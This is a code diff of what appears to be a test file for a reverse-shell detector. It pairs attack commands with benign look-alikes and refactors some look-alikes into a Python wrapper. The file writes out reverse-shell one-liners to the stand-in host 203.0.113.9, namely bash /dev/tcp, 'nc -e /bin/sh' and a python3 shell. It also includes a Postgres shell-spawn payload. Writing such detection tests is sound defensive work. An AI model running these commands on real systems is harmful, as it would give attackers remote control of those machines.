@@ -3,7 +3,7 @@
 
 from __future__ import annotations
 
-from proof import Proof
+from proof import Proof, Python
 
 # To the listener that types "id; exit" (see peers.py).
 REVERSE_SHELL = """python3 -c '
@@ -26,19 +26,18 @@ END
 PROOFS = [
     Proof("Reverse shell", attack=REVERSE_SHELL, look_alike="echo id | sh; sh </dev/null"),
 
-    Proof("Connection made a standard stream", attack=REVERSE_SHELL, look_alike="""python3 - <<'END'
+    Proof("Connection made a standard stream", attack=REVERSE_SHELL, look_alike=Python("""
 import os, socket
 server = socket.create_server(("203.0.113.9", 7000))
 client = socket.create_connection(("203.0.113.9", 7000))
 accepted, _ = server.accept()
 os.dup2(accepted.fileno(), 0)
-END
-"""),
+""")),
 
     Proof("Reverse shell command", before="ln -s /usr/bin/busybox /usr/local/bin/nc",
           attack="bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' || true",
           others=("nc 203.0.113.9 4444 -e /bin/sh || true", REVERSE_SHELL),
-          look_alike="python3 -c 'import socket; socket.create_server((\"127.0.0.1\", 7001))'"),
+          look_alike=Python("import socket; socket.create_server((\"127.0.0.1\", 7001))")),
 
     Proof("Server program started a shell", attack=POSTGRES.format("id"), look_alike="sh -c 'nginx -t'"),
 
